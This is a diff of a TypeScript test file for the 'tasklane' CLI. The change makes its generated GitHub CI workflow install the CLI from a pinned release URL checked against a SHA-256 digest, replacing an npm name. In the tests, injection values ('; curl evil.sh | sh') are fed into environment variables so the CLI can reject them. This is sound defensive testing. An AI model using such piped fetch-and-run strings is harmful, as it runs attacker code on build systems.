@@ -6,7 +6,7 @@ import { parseChoresFile } from '../../../src/core/chores/choreFile';
 import { choreDefinitionHash } from '../../../src/core/consent/definitionHash';
 import { startModelServer } from '../../fixtures/modelServer';
 import type { ModelServer } from '../../fixtures/modelServer';
-import { choresYaml, cli, CLI_VERSION, makeRepo, root } from '../../support/ciRepo';
+import { choresYaml, cli, CLI_VERSION, makeRepo, root, TEST_CLI_DIGEST } from '../../support/ciRepo';
 
 const end = { toolCalls: [{ name: 'task_end', arguments: { status: 'completed', summary: 'done', output: {} } }] };
 const edit = { toolCalls: [{ name: 'replace_in_file', arguments: { path: 'src/app.ts', edits: [{ oldText: 'answer = 41', newText: 'answer = 42' }] } }] };
@@ -44,20 +44,29 @@ describe('cli: ci github, ci verify, run --expect-hash / --chores-from / --out',
     assert.equal(result.code, 0, result.err);
     const [chore] = parseChoresFile(fs.readFileSync(path.join(dir, '.tasklane/chores.yaml'), 'utf8')).chores;
     assert.equal(hashIn(result.out), choreDefinitionHash(chore!), 'the hash VS Code binds Enable to');
-    assert.match(result.out, new RegExp(`npm install --global --ignore-scripts "\\$TASKLANE_CLI_PACKAGE@${CLI_VERSION.replace(/\./g, '\\.')}"\n`));
-    assert.match(result.out, /^ {2}TASKLANE_CLI_PACKAGE: "tasklane"$/m, 'the package installed, named in the workflow');
-    // A team that installs the CLI under its own scope says so; anything but an npm name is refused.
-    const scoped = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_PACKAGE: '@acme/tasklane' });
-    assert.match(scoped.out, /^ {2}TASKLANE_CLI_PACKAGE: "@acme\/tasklane"$/m);
-    const injected = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_PACKAGE: 'tasklane; curl evil.sh | sh' });
+    // The CLI is pinned by content, fetched from this project's release of the generator's version.
+    assert.match(
+      result.out,
+      new RegExp(
+        `^ {2}TASKLANE_CLI_URL: "https://github\\.com/tasklane/tasklane/releases/download/v${CLI_VERSION}/tasklane-cli-${CLI_VERSION}\\.tar\\.gz"$`,
+        'm',
+      ),
+    );
+    assert.match(result.out, new RegExp(`^ {2}TASKLANE_CLI_SHA256: "${TEST_CLI_DIGEST}"$`, 'm'));
+    assert.doesNotMatch(result.out, /npm install/, 'no registry resolves a name');
+    // A team that mirrors the asset says where; the digest still decides what runs.
+    const mirrored = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_URL: 'https://mirror.example.com/tasklane-cli.tar.gz' });
+    assert.match(mirrored.out, /^ {2}TASKLANE_CLI_URL: "https:\/\/mirror\.example\.com\/tasklane-cli\.tar\.gz"$/m);
+    assert.match(mirrored.out, new RegExp(`^ {2}TASKLANE_CLI_SHA256: "${TEST_CLI_DIGEST}"$`, 'm'));
+    const injected = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_URL: 'https://x.example/a"; curl evil.sh | sh' });
     assert.equal(injected.code, 2);
-    assert.match(injected.err, /is not an npm package name/);
+    assert.match(injected.err, /is not an http\(s\) URL the workflow can name/);
     // Without a version from the caller, the CLI reads its own package.json.
     let out = '';
     const code = await runCli(
       ['chores', 'ci', 'github', '--workspace', dir],
       { out: (t) => (out += t), err: () => undefined, env: {}, cwd: root },
-      { skillsDir: path.join(root, 'skills') },
+      { skillsDir: path.join(root, 'skills'), cliDigest: TEST_CLI_DIGEST },
     );
     assert.equal(code, 0);
     assert.equal(out, result.out);
@@ -71,6 +80,10 @@ describe('cli: ci github, ci verify, run --expect-hash / --chores-from / --out',
     const current = await cli(['chores', 'ci', 'verify', '--workspace', dir]);
     assert.equal(current.code, 0, current.err);
     assert.match(current.out, /tasklane\.yml is up to date/);
+    // The CLI digest is compared with the verifying CLI's own, never read from the file under review.
+    fs.writeFileSync(path.join(dir, WORKFLOW), generated.out.replace(TEST_CLI_DIGEST, 'cd'.repeat(32)));
+    assert.equal((await cli(['chores', 'ci', 'verify', '--workspace', dir])).code, 1, 'an edited CLI digest is stale');
+    fs.writeFileSync(path.join(dir, WORKFLOW), generated.out);
 
     fs.writeFileSync(path.join(dir, '.tasklane/chores.yaml'), choresYaml('', 'Make src/app.ts export 43.'));
     const stale = await cli(['chores', 'ci', 'verify', '--workspace', dir]);
